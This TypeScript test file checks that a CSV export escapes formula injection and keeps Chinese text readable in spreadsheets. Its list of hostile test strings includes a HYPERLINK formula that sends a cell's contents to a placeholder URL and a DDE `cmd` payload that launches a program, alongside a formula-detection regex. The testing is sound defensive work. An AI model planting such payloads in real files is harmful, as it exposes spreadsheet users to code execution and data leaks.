/**
 * `paragraphs.csv` opened as a spreadsheet opens it: read by SheetJS (the
 * @e965/xlsx build), which marks every cell it would run as a formula, from the
 * file's bytes as a spreadsheet reads a download. Text that starts like a
 * formula is prefixed so that no cell is one; the Chinese survives because of
 * the byte order mark; papaparse still reads the same text.
 */
import * as XLSX from '@e965/xlsx';
import { stringify } from 'csv-stringify/sync';
import Papa from 'papaparse';
import { describe, expect, it, vi } from 'vitest';
import { paragraphsToCsv } from '../../src/lib/editions/data/csv.ts';
import { blockText, toEditionArchive, toEditionReport } from '../../src/lib/editions/model.ts';
import { hashBody } from '../../src/lib/hash.ts';
import { renderBody } from '../../src/lib/content/mdx-body.ts';
import { EnReportSchema, ZhReportSchema } from '../../src/lib/schemas.ts';
import { getEditionArchive } from '../../src/lib/editions/from-collection.ts';

// The editions load what the build loads: the content collection, here read from content/.
vi.mock('astro:content', async () => {
	const { contentCollection } = await import('../helpers/astro-content.ts');
	const entries = contentCollection();
	return { getCollection: () => Promise.resolve(entries) };
});

/** What OWASP lists as the start of a formula, and the full-width forms spreadsheets also read. */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

const HOSTILE = [
	'=HYPERLINK("https://example.com/?q="&A1,"点击")',
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'+1+1',
	'-2+3',
	'\t=1+1',
	'＝1+1',
	'普通的一段。',
];

/** A one-report archive whose paragraphs (Chinese and English) are the hostile texts. */
function formulaArchive() {
	const paragraphs = (texts: string[]) =>
		renderBody(
			texts.map((value, i) => ({
				type: 'paragraph' as const,
				n: i + 1,
				lines: [i + 1],
				inlines: [{ type: 'text' as const, value }],
			}))
		);
	const zhBody = paragraphs(HOSTILE);
	const enBody = paragraphs(HOSTILE.map((t) => t.replace('普通的一段。', 'A plain paragraph.')));
	const common = { year: 2031, slug: 'legal-affairs', article: { title: 't', subtitle: 's' } };
	const zh = ZhReportSchema.parse({
		...common,
		title: '=1+1',
		lang: 'zh',
		kind: 'committee',
		order: 1,
		source: {
			file: 'seeds/2031.txt',
			sha256: 'b'.repeat(64),
			lines: [1, 7],
			paragraphs: HOSTILE.map((_, i) => [i + 1]),
		},
		generatedHash: hashBody(zhBody),
	});
	const en = EnReportSchema.parse({
		...common,
		title: '@Committee',
		lang: 'en',
		translationOf: { sha256: hashBody(zhBody) },
	});
	const report = toEditionReport({
		zh: { data: zh, body: zhBody },
		en: { data: en, body: enBody },
	});
	const meta = {
		source: {
			file: '2031.txt',
			originalName: 'x.txt',
			sha256: 'b'.repeat(64),
			received: '2031-01-01',
		},
		authors: [],
		decisions: [],
		figures: [],
	};
	return toEditionArchive([report], [{ year: 2031, meta }]);
}

/** Every cell of the first sheet, as SheetJS reads the bytes of a CSV file. */
function cells(csv: string): XLSX.CellObject[] {
	const book = XLSX.read(new TextEncoder().encode(csv), { type: 'buffer' });
	const sheet = book.Sheets[book.SheetNames[0]!]!;
	return Object.entries(sheet)
		.filter(([key]) => !key.startsWith('!'))
		.map(([, cell]) => cell as XLSX.CellObject);
}

describe('paragraphs.csv in a spreadsheet', () => {
	it('SheetJS finds formulas in the same rows written without escaping (the check can fail)', () => {
		const raw = stringify([['=HYPERLINK("https://example.com","x")', '=1+1']]);
		expect(cells(raw).filter((cell) => cell.f !== undefined)).toHaveLength(2);
	});

	it.each([
		['hostile paragraphs', () => Promise.resolve(formulaArchive())],
		['the archive', () => getEditionArchive()],
	])(
		'%s: no cell is a formula or starts like one, and the Chinese is intact',
		async (_, archive) => {
			const csv = paragraphsToCsv(await archive());
			const read = cells(csv);
			expect(read.filter((cell) => cell.f !== undefined)).toEqual([]);
			expect(read.filter((cell) => FORMULA_START.test(String(cell.v)))).toEqual([]);
			const chinese = read.map((cell) => String(cell.v)).filter((v) => /\p{Script=Han}/u.test(v));
			expect(chinese.length).toBeGreaterThan(0);
			for (const text of chinese) expect(csv).toContain(text.replace(/"/g, '""'));
		}
	);

	it('keeps each hostile text, after the one-character prefix a spreadsheet hides', () => {
		const csv = paragraphsToCsv(formulaArchive());
		const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
		expect(rows.errors).toEqual([]);
		expect(rows.meta.fields?.[0]).toBe('id');
		expect(rows.data.map((row) => row['zh'])).toEqual(
			HOSTILE.map((text) => (FORMULA_START.test(text) ? `'${text}` : text))
		);
		const archive = formulaArchive();
		const zh = archive.years[0]!.reports[0]!.blocks.map((b) => blockText(b.zh));
		expect(zh).toEqual(HOSTILE);
	});

	it('starts with a UTF-8 byte order mark, without which a spreadsheet garbles the Chinese', () => {
		const csv = paragraphsToCsv(formulaArchive());
		expect(csv.charCodeAt(0)).toBe(0xfeff);
		const without = cells(csv.slice(1)).map((cell) => String(cell.v));
		expect(without).not.toContain('普通的一段。');
		expect(cells(csv).map((cell) => String(cell.v))).toContain('普通的一段。');
	});
});
